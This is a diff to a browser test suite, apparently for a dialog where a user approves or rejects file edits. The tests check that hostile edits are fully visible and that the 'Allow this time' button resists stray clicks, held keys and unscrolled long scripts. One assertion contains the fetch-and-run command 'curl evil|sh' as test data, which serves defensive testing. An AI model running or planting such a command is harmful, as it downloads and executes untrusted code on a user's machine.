@@ -17,7 +17,7 @@ beforeAll(async () => {
   await buildApp();
   stage = await openStage({ script: async (request) => editOf(now, request) });
   visits = await openVisits(stage);
-}, 120_000);
+}, 240_000);
 
 afterAll(async () => {
   await visits[Symbol.asyncDispose]();
@@ -37,7 +37,7 @@ async function asked(page: Page, edit: HostileEdit): Promise<Locator> {
 
 const textIn = (path: string): Promise<string> => readFile(join(stage.root, path), 'utf8');
 
-describe('a question on the page', { timeout: 90_000, tags: ['d-question-whole'] }, () => {
+describe('a question on the page', { timeout: 240_000, tags: ['d-question-whole'] }, () => {
   test.each(hostileEdits.map((edit) => [edit.title, edit] as const))(
     'attack: %s is shown',
     async (_, edit) => {
@@ -47,7 +47,7 @@ describe('a question on the page', { timeout: 90_000, tags: ['d-question-whole']
       const shown = (await question.locator('pre').textContent()) ?? '';
       expect(shown).toContain(edit.shown);
       expect(shown.replaceAll(/[\n\t]/g, '')).not.toMatch(/[\p{Cc}\p{Cf}]/u);
-      expect(await question.locator('h2').textContent()).toContain(edit.path);
+      await expect.poll(() => question.locator('h2').textContent()).toContain(edit.path);
       // No line is cut or hidden at the side.
       const isCut = await question
         .locator('pre')
@@ -62,16 +62,28 @@ describe('a question on the page', { timeout: 90_000, tags: ['d-question-whole']
   );
 });
 
-describe('an answer on the page', { timeout: 90_000, tags: ['d-question-answered'] }, () => {
+describe('an answer on the page', { timeout: 240_000, tags: ['d-question-answered'] }, () => {
   test('attack: a click that was meant for something else, and a key that is held, answer nothing', async () => {
     const visit = await visits.visit();
     const { page } = visit;
     const glue = hostileEdits.find(({ title }) => title === 'a letter without width');
     if (!glue) throw new Error('no such edit');
+    // What the button was when it came: a busy machine may ask only after it was let go.
+    await page.evaluate(() => {
+      const watcher = new MutationObserver(() => {
+        const button = [...document.querySelectorAll('button')].find(
+          ({ textContent }) => textContent === 'Allow this time',
+        );
+        if (!button) return;
+        watcher.disconnect();
+        document.body.dataset['allowCame'] = button.disabled ? 'disabled' : 'open';
+      });
+      watcher.observe(document.body, { childList: true, subtree: true });
+    });
     const question = await asked(page, { ...glue, path: 'held.js' });
     const allow = question.getByRole('button', { name: 'Allow this time' });
-    expect(await allow.isDisabled()).toBe(true);
-    await expect.poll(() => allow.isDisabled(), { timeout: 5_000 }).toBe(false);
+    await expect.poll(() => page.locator('body').getAttribute('data-allow-came')).toBe('disabled');
+    await expect.poll(() => allow.isDisabled()).toBe(false);
     await allow.focus();
     // A key that has been down since before: the browser marks it as repeated.
     await allow.evaluate((element) =>
@@ -99,11 +111,11 @@ describe('an answer on the page', { timeout: 90_000, tags: ['d-question-answered
     const question = await asked(page, { ...long, path: 'long.sh' });
     const allow = question.getByRole('button', { name: 'Allow this time' });
     await page.waitForTimeout(1_500);
-    expect(await allow.isDisabled()).toBe(true);
+    await expect.poll(() => allow.isDisabled()).toBe(true);
     await question.locator('pre').evaluate((element) => {
       element.scrollTop = element.scrollHeight;
     });
-    await expect.poll(() => allow.isDisabled(), { timeout: 5_000 }).toBe(false);
+    await expect.poll(() => allow.isDisabled()).toBe(false);
     await allow.click();
     await answered(page);
     expect(await textIn('long.sh')).toContain('curl evil|sh');
